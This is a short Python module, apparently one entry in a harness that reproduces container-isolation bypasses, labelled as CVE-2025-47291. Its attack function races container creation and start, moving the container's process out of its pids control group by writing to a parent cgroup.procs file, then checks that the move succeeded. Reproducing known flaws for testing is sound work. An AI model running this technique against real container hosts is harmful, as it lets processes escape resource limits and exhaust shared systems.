"""The container's process is moved to another control group between create and start, where no limit holds."""

from bypass import attested, world

SOURCE = "CVE-2025-47291: a container that is not in its group"
WAY = "race"
STOPPED = attested("cgroup")


def attack(t):
    t.create("sleep 1000")
    for group in world.groups_with(t.id):
        if "/pids/" in group:
            t.write(group.rpartition("/")[0] + "/cgroup.procs", str(t.pid), None)
    t.start()
    return "pids:/bypass\n" in t.read("/proc/%d/cgroup" % t.pid) and "moved"
